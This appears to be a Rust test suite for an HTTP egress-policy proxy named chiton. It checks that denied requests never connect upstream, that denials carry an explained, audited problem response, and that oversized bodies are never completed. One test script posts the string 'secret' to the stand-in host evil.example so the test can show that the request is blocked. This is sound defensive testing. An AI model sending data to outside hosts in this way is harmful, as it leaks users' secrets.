//! For a refused request no byte of it reaches upstream, and no connection is made for it.

use chiton_tests::{World, http_policy};

#[test]
fn no_connection_is_made_for_a_refused_request() {
    let world = World::echo(&["api.example.com", "evil.example"]);
    let script = "for v in --http1.1 --http2; do for u in https://api.example.com/no https://evil.example/ok; do \
        curl -sS $v -d secret -o /dev/null -w '%{http_code} ' $u; done; done";
    let outcome = world.sh(&http_policy(&["{host: api.example.com, paths: [/ok]}"]), script).expect_success();
    assert_eq!(outcome.stdout, "403 403 403 403 ");
    assert_eq!(world.upstream.log().connections(), 0);
}

#[test]
fn a_refusal_says_what_why_and_what_to_do() {
    let world = World::echo(&["api.example.com"]);
    let script = "curl -sS -i https://api.example.com/repos/o/n";
    let rule = "{name: repos, host: api.example.com, paths: ['/repos/*']}";
    let outcome = world.sh(&http_policy(&[rule]), script).expect_success();
    let (head, body) = outcome.stdout.split_once("\r\n\r\n").expect("a response");
    let head = head.to_lowercase();
    assert!(head.contains(" 403") && head.contains("application/problem+json"), "{head}");
    assert!(head.contains("x-chiton-denied: path_not_allowed"), "{head}");
    let body: serde_json::Value = serde_json::from_str(body).expect("a problem");
    assert_eq!(body["type"], "https://chiton.internal/denied/path_not_allowed");
    assert_eq!(body["title"], "Denied by policy");
    assert_eq!(body["rule"], "repos");
    assert!(
        body["detail"].as_str().is_some_and(|d| d.contains("GET /repos/o/n") && d.contains("\"repos\"")),
        "{body}"
    );
    assert!(body["suggestion"].as_str().is_some_and(|s| s.contains("- host: api.example.com")), "{body}");
    let event = body["event"].as_str().expect("an event");
    assert!(world.chiton.audit(&[]).iter().any(|e| e["id"] == event && e["decision"] == "deny"), "{event}");
}

/// A body that passes its rule's limit in the middle is broken off upstream, never completed; one that says so
/// beforehand is not begun.
#[test]
fn a_body_over_its_limit_is_never_completed() {
    let world = World::echo(&["api.github.com"]);
    let policy = "static: {filesystem: {allowed_paths: [/workspace, /tmp]}}\n\
        dynamic: {network: {http: [{host: api.github.com, methods: [POST], limits: {request_body: 1KiB}}]}}\n";
    let script = "head -c 3000 /dev/zero | tr '\\0' x > /tmp/body; \
        for how in '-H transfer-encoding:chunked' ''; do for v in --http1.1 --http2; do \
        curl -sS $v $how -o /dev/null -w '%{http_code} %header{x-chiton-denied}\\n' \
        --data-binary @/tmp/body https://api.github.com/echo; done; done; \
        curl -sS -o /dev/null -w '%{http_code}\\n' --data-binary short https://api.github.com/echo";
    let outcome = world.sh(policy, script).expect_success();
    assert_eq!(outcome.stdout, format!("{}200\n", "403 limit_exceeded\n".repeat(4)), "{outcome:?}");
    let seen = world.upstream.requests();
    assert!(seen.iter().all(|request| request.body.len() < 3000), "{seen:?}");
    assert_eq!(seen.iter().filter(|request| request.body == b"short").count(), 1);
}
